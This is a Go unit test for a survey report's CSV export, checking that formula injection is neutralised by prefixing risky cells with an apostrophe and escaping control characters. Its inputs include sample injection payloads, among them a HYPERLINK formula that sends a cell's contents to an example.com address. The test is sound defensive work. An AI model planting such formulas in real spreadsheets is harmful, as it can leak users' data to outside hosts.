package main

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/stretchr/testify/require"

	"github.com/dualarch/dualarch/internal/guard"
	"github.com/dualarch/dualarch/internal/survey"
)

// A spreadsheet never runs what somebody named a function.
func TestSurveyCSVIsInert(t *testing.T) {
	for given, want := range map[string]string{
		"orders": "orders", "": "", "a-b": "a-b", "=1+1": "'=1+1", "+a": "'+a", "-cmd": "'-cmd", "@SUM(A1)": "'@SUM(A1)", " =1": "' =1",
		"\uff1d1": "'\uff1d1", "a;=1": "a;'=1", "a; -1": "a;' -1", "a=1": "a=1", "'": "'", `a;"=1`: `a;"=1`,
	} {
		require.Equal(t, want, inert(given))
	}
	r := &survey.Report{Functions: []survey.Function{{
		Name: `=HYPERLINK("http://example.com/"&A1,"x")`, Stack: "\t=1", LogicalID: "a,b\r\n\"c\"", Layers: []string{"x", "y"}, Untunable: "naïve",
		Readiness: survey.Readiness{Status: guard.Unknown, Unchecked: []string{"a", "=b"}}, Measured: &survey.Measured{SavingUSD: aws.Float64(-2.5)},
	}}}
	text, err := surveyCSV(r)
	require.NoError(t, err)
	lines, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	require.NoError(t, err)
	require.Len(t, lines, 2)
	cells := map[string]string{}
	for i, name := range lines[0] {
		cells[name] = lines[1][i]
	}
	require.Equal(t, `'=HYPERLINK("http://example.com/"&A1,"x")`, cells["functionName"])
	require.Equal(t, `\u0009=1`, cells["stack"])
	require.Equal(t, `a,b\u000d\u000a"c"`, cells["logicalId"])
	require.Equal(t, "a;' =b", cells["unchecked"])
	require.Equal(t, "-2.5", cells["measuredSavingUsd"], "a number stays one")
	require.Empty(t, cells["estimatedTodayUsd"], "what is not known is empty, and not 0")
	require.Equal(t, "naïve", cells["untunable"])
}
